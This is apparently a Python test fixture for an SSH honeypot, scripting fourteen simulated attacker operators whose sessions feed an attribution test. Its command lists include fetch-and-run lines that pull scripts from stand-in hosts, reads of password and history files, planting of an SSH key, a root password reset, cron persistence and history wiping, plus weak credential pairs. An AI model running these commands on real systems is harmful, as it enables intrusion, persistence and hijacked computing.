"""A second cast, of fourteen operators who come twenty-four times each: who they are is known, and they are not the demo's.

They are made for mixing: each has one way to be told (client, account, work, hours), and some are hard on purpose, since
they are one person and look like more: two clients at random, two accounts at random, other work each day, a new
toolkit for good half-way.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta

from tests.recording import acts, clients
from tests.recording.attackers import Visit
from tests.recording.clients import Login, Program
from tests.recording.typist import Hand, Line, Paste

FIRST_DAY = datetime(2026, 6, 1)
VISITS = 24
"""As many as a mixture has sessions: a session that came twice would be evidence that nobody gave."""
DECOYS = {"mixed-01": "192.0.2.77"}
WORDS = {
    "root": "gh0st-77", "admin": "admin1", "oracle": "tiger", "git": "git", "deploy": "d3ploy!", "pi": "raspberry",
    "ftpuser": "ftp123", "hadoop": "hadoop", "ubuntu": "ubuntu1", "nagios": "nagios",
}  # fmt: skip
"""Accounts that let in, with their passwords."""
USERS = tuple(f"{user}:x:{word}" for user, word in WORDS.items())
LOOKING: tuple[str, ...] = (
    "w", "last -20", "ls -la /home", "cat /etc/passwd", "cat /etc/hosts", "netstat -tlnp", "df -h", "mount", "ls -la /opt",
    "cat /etc/crontab", "ps -ef", "hostname -f",
)  # fmt: skip
COLLECTING: tuple[str, ...] = (
    "ls -la /var/backups", "cat /root/.bash_history", "tar czf /tmp/.c{n}.tgz /etc", "cat /root/.ssh/known_hosts",
    "grep -r password /etc", "ls -la /srv", "cat /var/www/config.php", "rm -f /tmp/.c{n}.tgz",
)  # fmt: skip
MINING: tuple[str, ...] = (
    "nproc; free -m", "cd /dev/shm; wget -q http://cdn.example/x{n}.sh; chmod +x x{n}.sh; ./x{n}.sh",
    "pkill -9 xmrig; pkill -9 kswapd0", "crontab -r; (echo '*/9 * * * * /dev/shm/x{n}.sh') | crontab -", "history -c",
)  # fmt: skip
BOTNET: tuple[str, ...] = (
    "cd /tmp; curl -O http://203.0.113.220/b{n}.sh; chmod 777 b{n}.sh; sh b{n}.sh; rm -rf b{n}.sh",
    "/bin/busybox OWARI", "cat /proc/cpuinfo | head -4", "echo -e '\\x67\\x61' > /tmp/.o; cat /tmp/.o",
)  # fmt: skip
KEYS: tuple[str, ...] = (
    "cd ~; rm -rf .ssh; mkdir .ssh",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABcast{n} a@cast' >> .ssh/authorized_keys", "chmod -R go= ~/.ssh",
    "chattr +ia ~/.ssh/authorized_keys", "echo root:n3w{n} | chpasswd",
)  # fmt: skip
CHECKING: tuple[str, ...] = ("uname -s -v -n -r -m",)
PROBING: tuple[str, ...] = ("echo ok{n}", "cat /etc/issue", "uptime", "whoami")
WORK = {
    "looking": LOOKING, "collecting": COLLECTING, "mining": MINING, "botnet": BOTNET, "keys": KEYS, "checking": CHECKING,
    "probing": PROBING,
}  # fmt: skip
SLOWLY, QUICKLY, AT_ONCE = Hand(0.12, 1.2), Hand(0.05, 0.5), Hand(0.0, 0.15, 0.2)
Chosen = Callable[[random.Random, int], tuple[Program, str, str]]
"""Of a visit: the client, the account and the work; ``number`` counts from 0."""


@dataclass(frozen=True, slots=True)
class Operator:
    """One person or program."""

    name: str
    choose: Chosen
    hand: Hand
    hours: tuple[float, float]
    typed: bool = True
    """In a terminal; else each command over a channel of its own."""


def _always(program: Program, user: str, work: str) -> Chosen:
    return lambda _dice, _number: (program, user, work)


def _drawn(programs: Sequence[Program], users: Sequence[str], works: Sequence[str]) -> Chosen:
    """Each drawn by itself: the habits of one person do not hang together."""
    return lambda dice, _number: (dice.choice(programs), dice.choice(users), dice.choice(works))


def _changing(before: Chosen, after: Chosen) -> Chosen:
    """One way for the first half, another one for the second."""
    return lambda dice, number: (before if number < VISITS // 2 else after)(dice, number)


STEADY = (
    Operator("looks, PuTTY", _always(clients.PUTTY, "oracle", "looking"), SLOWLY, (17, 22)),
    Operator("collects, OpenSSH", _always(clients.OPENSSH_JAMMY, "deploy", "collecting"), SLOWLY, (8, 12)),
    Operator("looks, OpenSSH", _always(clients.OPENSSH_OLD, "git", "looking"), QUICKLY, (13, 18)),
    Operator("mines, Go", _always(clients.GO, "root", "mining"), AT_ONCE, (1, 7)),
    Operator("mines, libssh2", _always(clients.LIBSSH2, "admin", "mining"), AT_ONCE, (0, 24)),
    Operator("botnet, Go", _always(clients.GO, "pi", "botnet"), AT_ONCE, (0, 24), typed=False),
    Operator("keys, libssh", _always(clients.LIBSSH, "root", "keys"), AT_ONCE, (2, 23)),
    Operator(
        "checks, Paramiko", _always(clients.PARAMIKO, "ubuntu", "checking"), AT_ONCE, (0, 24), typed=False
    ),
    Operator("probes, JSch", _always(clients.JSCH, "hadoop", "probing"), AT_ONCE, (3, 20), typed=False),
    Operator("collects, Paramiko", _always(clients.PARAMIKO, "nagios", "collecting"), AT_ONCE, (0, 24)),
)
HARD = (
    Operator("two clients", _drawn((clients.PUTTY, clients.OPENSSH_JAMMY), ("oracle",), ("looking",)), SLOWLY, (9, 22)),
    Operator("two accounts", _drawn((clients.OPENSSH_OLD,), ("git", "deploy"), ("looking",)), QUICKLY, (9, 22)),
    Operator(
        "all at random", _drawn((clients.GO, clients.LIBSSH), ("root", "admin"), ("mining", "keys")), AT_ONCE, (0, 24)
    ),
    Operator(
        "a new toolkit",
        _changing(_always(clients.LIBSSH2, "pi", "botnet"), _always(clients.GO, "root", "mining")), AT_ONCE, (0, 24),
    ),
)  # fmt: skip
OPERATORS = STEADY + HARD


def plan() -> list[Visit]:
    """All visits, an operator's in order of time; the same list every time. The address stands for the operator."""
    dice = random.Random("decnet second cast")
    return [visit for number, operator in enumerate(OPERATORS) for visit in _visits(operator, number, dice)]


def address_of(number: int) -> str:
    """What operator ``number`` is told by in the recording."""
    return f"198.18.0.{number + 1}"


def _visits(operator: Operator, number: int, dice: random.Random) -> Iterator[Visit]:
    for visit in range(VISITS):
        program, user, work = operator.choose(dice, visit)
        act = _act(operator, program, Login(user, (WORDS[user],)), _lines(work, dice, 100 * number + visit))
        start = FIRST_DAY + timedelta(days=visit, hours=dice.uniform(*operator.hours))
        yield Visit(operator.name, address_of(number), *DECOYS, start, act)


def _lines(work: str, dice: random.Random, number: int) -> list[str]:
    """Some of the lines of a work, in their order; who looks around does so in any order."""
    known = [line.replace("{n}", str(number)) for line in WORK[work]]
    if work in ("looking", "collecting"):
        return dice.sample(known, dice.randint(3, 6))
    return [line for place, line in enumerate(known) if place == 0 or dice.random() < 0.85]


def _act(operator: Operator, program: Program, login: Login, lines: list[str]) -> acts.Act:
    if not operator.typed:
        return acts.run(program, login, lines, gap=0.2)
    typed: list[Line] = [*lines, "exit"] if operator.hand.key else [Paste(line) for line in [*lines, "exit"]]
    return acts.shell(program, login, typed, operator.hand)
